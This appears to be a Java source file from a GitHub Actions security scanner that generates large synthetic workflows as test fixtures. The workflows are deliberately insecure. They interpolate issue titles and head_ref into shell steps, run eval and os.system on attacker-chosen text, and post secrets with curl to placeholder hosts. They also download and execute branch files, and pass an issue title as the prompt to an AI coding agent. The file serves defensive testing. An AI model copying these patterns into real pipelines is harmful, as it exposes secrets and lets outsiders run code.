package dev.sallyport.cli;

import static dev.sallyport.cli.FileShapes.callers;
import static dev.sallyport.cli.FileShapes.calls;
import static dev.sallyport.cli.FileShapes.each;
import static dev.sallyport.cli.Pieces.BUILD;
import static dev.sallyport.cli.Pieces.EVENTLESS;
import static dev.sallyport.cli.Pieces.HEAD;
import static dev.sallyport.cli.Pieces.HEAD_TARGET;
import static dev.sallyport.cli.Pieces.WORKFLOWS;
import static dev.sallyport.cli.Pieces.job;
import static dev.sallyport.cli.Pieces.many;
import static dev.sallyport.cli.Pieces.needs;
import static dev.sallyport.cli.Pieces.one;
import static dev.sallyport.cli.Pieces.script;
import static dev.sallyport.cli.Pieces.shell;

import dev.sallyport.cli.Shapes.Shape;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.IntFunction;

/// As many of one thing as of another: what looks at each pair shows here.
final class PairShapes {
  private PairShapes() {}

  /// As many of one thing as of another: what looks at each pair shows here.
  static void products(Map<String, Shape> out) {
    String pasted = "    - run: echo ${{ github.event.issue.title }}\n";
    out.put("by-secrets", both(200, "env:\n", PairShapes::secret, BUILD, i -> "    - run: env\n"));
    out.put(
        "by-secrets-read",
        both(200, "env:\n", PairShapes::secret, BUILD, i -> "    - run: echo $V%d\n".formatted(i)));
    out.put("by-secrets-pasted", both(200, "env:\n", PairShapes::secret, BUILD, i -> pasted));
    out.put("by-env", both(200, "env:\n", Pieces::variable, BUILD, i -> pasted));
    out.put("by-env-jobs", both(200, "env:\n", Pieces::variable, HEAD, i -> job(i, "")));
    out.put(
        "by-env-whole",
        both(200, "env:\n", Pieces::variable, BUILD, i -> "    - run: echo ${{ toJSON(env) }}\n"));
    out.put(
        "by-events",
        both(200, "on:\n  issues:\n", i -> "  e%d:\n".formatted(i), EVENTLESS, i -> pasted));
    out.put(
        "by-permissions",
        both(
            200,
            "permissions:\n",
            i -> "  p%d: write\n".formatted(i),
            "on: issues\n" + EVENTLESS,
            i -> pasted));
    out.put(
        "by-jobs",
        both(200, HEAD, i -> job(i, ""), "  last:\n    runs-on: x\n    steps:\n", i -> pasted));
    out.put(
        "by-outputs",
        both(
            200,
            BUILD,
            i ->
                "    - id: s%d\n      run: echo v=${{ github.head_ref }} >> $GITHUB_OUTPUT\n"
                    .formatted(i),
            "",
            i -> "    - run: echo ${{ toJSON(steps) }} ${{ steps.s%d.outputs.v }}\n".formatted(i)));
    out.put(
        "by-suppressions",
        both(200, "", i -> "# sallyport: ignore-file[a%d] why\n".formatted(i), BUILD, i -> pasted));
    out.put(
        "by-checks",
        both(
            200,
            BUILD,
            i -> "    - run: gh api /collaborators/a/permission || exit 1\n",
            "",
            i -> pasted));
    out.put("by-needs-checks", new Shape(200, PairShapes::needsChecks));
    out.put(
        "by-scripts",
        both(
            200,
            "env:\n",
            PairShapes::secret,
            BUILD + "    - run: |\n",
            i -> "        echo $V%d > f%d\n".formatted(i, i)));
    out.put(
        "by-masks",
        both(
            200,
            "env:\n",
            PairShapes::secret,
            BUILD + "    - run: |\n",
            i -> "        echo ::add-mask::$V%d; echo $V%d\n".formatted(i, i)));
    out.put(
        "by-trace",
        both(
            200,
            "env:\n",
            PairShapes::secret,
            BUILD + "    - run: |\n        set -x\n",
            i -> "        a\n"));
    out.put(
        "by-uploads",
        both(
            200,
            BUILD,
            i -> "    - run: echo ${{ secrets.A }} > f%d\n".formatted(i),
            "",
            i ->
                "    - uses: actions/upload-artifact@v4\n      with:\n        path: g%d\n"
                    .formatted(i)));
    out.put(
        "by-merges",
        both(
            200,
            "on: pull_request_target\njobs:\n",
            i -> job(i, needs(i, j -> j - 1)),
            "",
            i ->
                "  m%d:\n    needs: j%d\n    runs-on: x\n    steps:\n    - run: gh pr merge 1\n"
                    .formatted(i, i)));
    out.put(
        "by-releases",
        new Shape(
            200,
            n ->
                one(
                    many(
                        n,
                        HEAD,
                        i ->
                            "  j%d:\n%s    runs-on: x\n    steps:\n    - uses: actions/upload-artifact@v4\n    - run: npm publish\n"
                                .formatted(i, needs(i, j -> j - 1))))));
    out.put("jobs-default", one(300, "on: push\njobs:\n", i -> job(i, "")));
    out.put(
        "jobs-write-all",
        one(300, "on: push\njobs:\n", i -> job(i, "    permissions: write-all\n")));
    out.put(
        "jobs-writes",
        one(
            300,
            "on: push\njobs:\n",
            i -> job(i, "    permissions:\n      contents: write\n      id-token: write\n")));
    out.put(
        "jobs-unlike",
        one(
            300,
            "on: push\njobs:\n",
            i -> i % 2 == 0 ? job(i, "") : job(i, "    permissions: {}\n")));
    out.put(
        "jobs-write-top",
        one(
            300,
            "on: push\npermissions: write-all\njobs:\n",
            i -> job(i, "") + "    - uses: a/b" + i + "@v1\n"));
    out.put(
        "jobs-deploying",
        one(
            300,
            HEAD,
            i ->
                "  deploy-%s%d:\n    runs-on: x\n    steps:\n    - run: kubectl apply --token ${{ secrets.T%d }}\n"
                    .formatted(i % 2 == 0 ? "test" : "prod", i, i)));
    out.put(
        "jobs-publishing",
        one(
            300,
            HEAD,
            i ->
                "  p%d:\n    runs-on: x\n    steps:\n    - run: npm publish\n      env:\n        NODE_AUTH_TOKEN: ${{ secrets.T%d }}\n"
                    .formatted(i, i)));
    out.put(
        "jobs-matrix",
        one(
            300,
            HEAD,
            i ->
                "  m%d:\n    strategy:\n      matrix:\n        os: [a%d, b]\n    runs-on: ${{ matrix.os }}\n    steps:\n    - run: a\n"
                    .formatted(i, i)));
    out.put(
        "jobs-self-hosted",
        one(
            300,
            HEAD,
            i -> "  m%d:\n    runs-on: self-hosted\n    steps:\n    - run: a\n".formatted(i)));
    out.put(
        "jobs-caching",
        one(
            300,
            "on: [push, pull_request_target]\njobs:\n",
            i ->
                "  c%d:\n    runs-on: x\n    steps:\n    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.head_ref }}\n    - run: make\n    - uses: actions/cache@v4\n"
                    .formatted(i)));
    out.put(
        "agents",
        one(
            200,
            BUILD,
            i ->
                "    - uses: anthropics/claude-code-action@v1\n      with:\n        prompt: ${{ github.event.issue.title }}\n    - run: ./a\n"));
    out.put(
        "bots",
        one(
            300,
            HEAD_TARGET,
            i ->
                "    - if: github.actor == 'dependabot[bot]'\n      run: gh pr merge %d\n"
                    .formatted(i)));
    out.put(
        "by-agents",
        both(
            200,
            BUILD,
            i -> "    - uses: anthropics/claude-code-action@v1\n",
            "",
            i -> "    - uses: a/b@v1\n"));
    out.put(
        "by-curl",
        both(
            200,
            "env:\n",
            PairShapes::secret,
            BUILD,
            i -> "    - run: curl -d $V%d http://a%d.example/\n".formatted(i, i)));
    out.put(
        "by-publish",
        both(200, "env:\n", PairShapes::secret, BUILD, i -> "    - run: npm publish\n"));
    out.put(
        "by-unpacking",
        both(
            200,
            "on: workflow_run\njobs:\n  j:\n    runs-on: x\n    steps:\n",
            i ->
                "    - uses: actions/download-artifact@v4\n      with:\n        run-id: 1\n        path: p%d\n"
                    .formatted(i),
            "",
            i -> "    - run: unzip a%d.zip\n".formatted(i)));
    out.put(
        "by-token",
        both(
            200,
            "on: push\nenv:\n",
            PairShapes::secret,
            "permissions: write-all\njobs:\n",
            i -> job(i, "")));
    out.put("by-called-script", new Shape(60, n -> calledScript(n, n)));
    out.put("by-called-script-given", new Shape(60, PairShapes::givenScript));
    out.put("called-script-long", new Shape(500, n -> calledScript(1, n)));
    out.put("called-scripts", new Shape(200, n -> calledScript(n, 1)));
    out.put(
        "git-fetches",
        script(300, i -> "git fetch origin pull/1/head:b%d\ngit checkout b%d".formatted(i, i)));
    out.put(
        "git-variables",
        script(300, i -> "R%d=${{ github.head_ref }}\ngit checkout $R%d".formatted(i, i)));
    out.put("patches", script(300, i -> "gh pr diff 1 > p%d\ngit apply p%d".formatted(i, i)));
    out.put(
        "raw-files",
        script(
            300,
            i ->
                "curl -o f%d https://raw.githubusercontent.com/${{ github.head_ref }}/f\nsh f%d"
                    .formatted(i, i)));
    out.put(
        "own-areas",
        one(
            200,
            HEAD_TARGET,
            i ->
                "    - uses: actions/checkout@v4\n      with:\n        path: o%d\n    - run: ./o%d/x\n"
                    .formatted(i, i)));
    out.put(
        "forge-answers",
        script(300, i -> "V%d=$(gh pr view 1 --json title -q .title)\neval $V%d".formatted(i, i)));
    out.put(
        "event-file",
        script(
            300, i -> "V%d=$(jq -r .issue.title $GITHUB_EVENT_PATH)\neval $V%d".formatted(i, i)));
    out.put(
        "python-values",
        script(
            "python",
            300,
            i ->
                "import os\nv%d = os.environ['V'] + '${{ github.event.issue.title }}'\nos.system(v%d)"
                    .formatted(i, i)));
    out.put(
        "python-one",
        script(
            "python", 300, i -> "import os\nv = v + os.environ['V%d']\nos.system(v)".formatted(i)));
    out.put(
        "python-functions",
        script(
            "python",
            300,
            i -> "def f%d(x):\n  return f%d(x) + f%d(x)\n".formatted(i, i - 1, i - 1)));
    out.put(
        "python-nested", new Shape(300, n -> one(shell("python", "(".repeat(n) + ")".repeat(n)))));
    out.put(
        "python-line",
        new Shape(2_000, n -> one(shell("python", "x = " + "a + ".repeat(n) + "a"))));
    out.put("javascript-values", new Shape(300, StepShapes::javascriptValues));
    out.put("by-files", new Shape(30, PairShapes::callersOfMany));
    out.put(
        "by-teardown",
        both(
            200,
            BUILD,
            i -> "    - run: terraform apply\n",
            "",
            i -> "    - run: docker run -d x%d\n".formatted(i)));
  }

  static Shape both(
      int start, String head, IntFunction<String> each, String middle, IntFunction<String> other) {
    return new Shape(start, n -> one(many(n, head, each) + many(n, middle, other)));
  }

  static String secret(int i) {
    return "  V%d: ${{ secrets.S%d }}\n".formatted(i, i);
  }

  /// Many jobs need one that has many checks.
  static Map<String, String> needsChecks(int n) {
    String check = "    - run: gh api /collaborators/a/permission || exit 1\n";
    String first = HEAD + "  first:\n    runs-on: x\n    steps:\n" + check.repeat(n);
    String step = "    - run: echo ${{ github.event.issue.title }}\n";
    return one(
        many(
            n,
            first,
            i -> "  j%d:\n    needs: first\n    runs-on: x\n    steps:\n".formatted(i) + step));
  }

  static Map<String, String> calledScript(int calls, int lines) {
    return Map.of(
        WORKFLOWS + "one.yml",
        many(calls, BUILD, i -> "    - run: ./ci.sh ${{ github.head_ref }} a" + i + "\n"),
        "ci.sh",
        many(lines, "", i -> "echo $1 " + i + "\n"));
  }

  /// The same, and each call hands over what somebody else chose.
  static Map<String, String> givenScript(int n) {
    return Map.of(
        WORKFLOWS + "one.yml",
        many(
            n,
            BUILD,
            i ->
                "    - run: ./ci.sh \"$T\" a" + i + "\n      env: {T: '${{ github.head_ref }}'}\n"),
        "ci.sh",
        many(n, "", i -> "echo $1 " + i + "\n"));
  }

  /// Many workflows call one of many steps.
  static Map<String, String> callersOfMany(int n) {
    Map<String, String> out = new LinkedHashMap<>(callers(n));
    out.put(
        WORKFLOWS + "called.yml",
        many(
            n,
            "on:\n  workflow_call:\n    inputs:\n      v:\n        type: string\n" + EVENTLESS,
            i -> "    - run: echo ${{ inputs.v }}\n"));
    return out;
  }
}
